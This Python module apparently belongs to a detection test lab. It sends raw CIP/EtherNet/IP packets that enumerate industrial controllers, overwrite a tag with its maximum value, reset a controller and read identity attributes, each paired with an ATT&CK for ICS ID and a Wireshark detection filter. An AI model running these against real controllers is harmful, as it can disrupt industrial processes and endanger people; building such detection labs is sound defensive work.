"""Attacks by CIP over EtherNet/IP (ODVA volumes 1 and 2)."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import OUTSIDER, Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"
_REGISTER, _SEND, _LIST = 0x65, 0x6F, 0x63
_SECONDS = 2.0


def _packet(command: int, session: int, data: bytes) -> bytes:
    return struct.pack("<HHII8sI", command, len(data), session, 0, b"lab\0\0\0\0\0", 0) + data


def _asks(aim: Aim, request: bytes) -> None:
    """One unconnected request in a session."""
    address = (aim.address, aim.service.port)
    with socket.create_connection(address, _SECONDS) as connection:
        connection.settimeout(_SECONDS)
        connection.sendall(_packet(_REGISTER, 0, b"\1\0\0\0"))
        (session,) = struct.unpack_from("<I", connection.recv(64).ljust(8, b"\0"), 4)
        items = struct.pack("<HHHHH", 2, 0, 0, 0xB2, len(request)) + request
        connection.sendall(_packet(_SEND, session, bytes(4) + b"\x05\0" + items))
        try:
            connection.recv(512)
        except TimeoutError:
            return


def _request(request: bytes) -> Callable[[Aim], None]:
    return lambda aim: _asks(aim, request)


def _tag(aim: Aim) -> None:
    name = str(aim.service.settings["tag"]).encode()
    padded = name + bytes(len(name) % 2)
    path = bytes([0x91, len(name)]) + padded + b"\x28\x07"
    _asks(aim, bytes([0x4D, len(path) // 2]) + path + struct.pack("<HHh", 0xC3, 1, 32767))


def _list(aim: Aim) -> None:
    wire.udp(aim, _packet(_LIST, 0, b""))


_IDENTITY = b"\x02\x20\x01\x24\x01"
ATTACKS = (
    Attack(
        "cip identity listed",
        "Asks by UDP who is there",
        "enip",
        ("T0888",),
        "new operation",
        "enip.command == 0x63 && udp" + _FROM,
        _list,
    ),
    Attack(
        "cip tag written",
        "Writes the largest number into a tag",
        "enip",
        ("T0836",),
        "new operation",
        "cip.service == 0x4d && frame contains ff:7f" + _FROM,
        _tag,
    ),
    Attack(
        "cip controller reset",
        "Resets the identity object",
        "enip",
        ("T0816",),
        "engineering operation",
        "cip.service == 0x05" + _FROM,
        _request(b"\x05" + _IDENTITY),
    ),
    Attack(
        "cip attributes read",
        "Reads all attributes of the identity object",
        "enip",
        ("T0888",),
        "new operation",
        "cip.service == 0x01" + _FROM + " && frame contains 20:01:24:01",
        _request(b"\x01" + _IDENTITY),
        (OUTSIDER,),
    ),
)
